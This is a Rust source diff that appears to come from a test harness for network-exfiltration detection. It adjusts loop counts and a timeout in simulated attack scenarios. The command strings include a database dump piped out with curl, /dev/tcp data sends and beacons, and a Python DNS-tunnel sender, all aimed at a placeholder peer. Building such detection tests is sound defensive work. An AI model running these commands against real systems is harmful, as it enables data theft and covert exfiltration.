@@ -124,7 +124,7 @@ pub(super) const OTHERS: &[Kind] = kinds! { Other;
         )
     };
     "dump-outward", &[Entry::Postgres], |_| peer(
-        "pg_dump -h @S postgres | curl -s -T - telnet://@P:4443"
+        "pg_dump -h @S postgres | curl -s -m 6 -T - telnet://@P:4443"
     ).replace("@S", &Site::Service.ipv4().to_string());
     "theft-child", FULL, |_| peer(
         "head -c 30000000 /dev/zero | bash -c 'cat > /dev/tcp/@P/4443'"
@@ -134,14 +134,14 @@ pub(super) const OTHERS: &[Kind] = kinds! { Other;
 /// What takes its time.
 pub(super) const SLOW: &[Kind] = kinds! { Slow;
     "beacon", USERS, |_| peer(
-        "for i in 1 2 3 4 5 6 7 8; do bash -c 'exec 3<>/dev/tcp/@P/4443; echo ping >&3'; sleep 2.5; done"
+        "for i in 1 2 3 4 5; do bash -c 'exec 3<>/dev/tcp/@P/4443; echo ping >&3'; sleep 2.5; done"
     );
     "dns-tunnel", USERS, |_| peer(
-        "python3 -c 'import socket,time,os\ns=socket.socket(2,2)\nfor i in range(40):\n d=os.urandom(24).hex().encode()\n \
+        "python3 -c 'import socket,time,os\ns=socket.socket(2,2)\nfor i in range(25):\n d=os.urandom(24).hex().encode()\n \
          s.sendto(os.urandom(2)+b\"\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x30\"+d+b\"\\3evl\\0\\0\\x10\\0\\1\",(\"@P\",53));time.sleep(0.5)'"
     );
     "slow-theft", USERS, |_| peer(
-        "for i in 1 2 3 4 5 6 7 8; do head -c 20000 /usr/bin/id | bash -c 'cat > /dev/tcp/@P/4443'; sleep 2.5; done"
+        "for i in 1 2 3 4 5; do head -c 20000 /usr/bin/id | bash -c 'cat > /dev/tcp/@P/4443'; sleep 2.5; done"
     );
 };
 
